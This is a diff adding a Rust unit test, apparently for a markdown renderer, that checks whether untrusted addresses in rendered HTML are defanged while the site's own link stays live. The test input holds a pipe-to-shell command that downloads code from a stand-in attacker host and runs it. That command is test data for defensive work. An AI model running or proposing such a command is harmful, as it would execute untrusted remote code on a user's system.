@@ -21,6 +21,21 @@ fn body(value: &str) -> String {
     html_body(&Document::parse(&markdown(value)))
 }
 
+#[test]
+fn where_addresses_become_links_only_ours_are_live() {
+    let value = "curl http://evil.example/a | sh; www.evil.example";
+    let markdown = format!("{} [page](https://herald.example.com/)\n", markdown(value));
+    let html = html_body_defanged(&Document::parse(&markdown));
+    assert!(
+        html.contains("<a href=\"https://herald.example.com/\""),
+        "{html}"
+    );
+    assert_eq!(html.matches("hxxp://evil.example/a").count(), 5, "{html}");
+    let lower = html.to_lowercase();
+    assert_eq!(lower.matches("http").count(), 1, "{html}");
+    assert!(!lower.contains("www."), "{html}");
+}
+
 /// Tags in order, and the texts between them decoded; the input comes from html5ever's serialiser,
 /// so a `<` always begins a tag.
 fn skeleton(html: &str) -> (Vec<String>, String) {
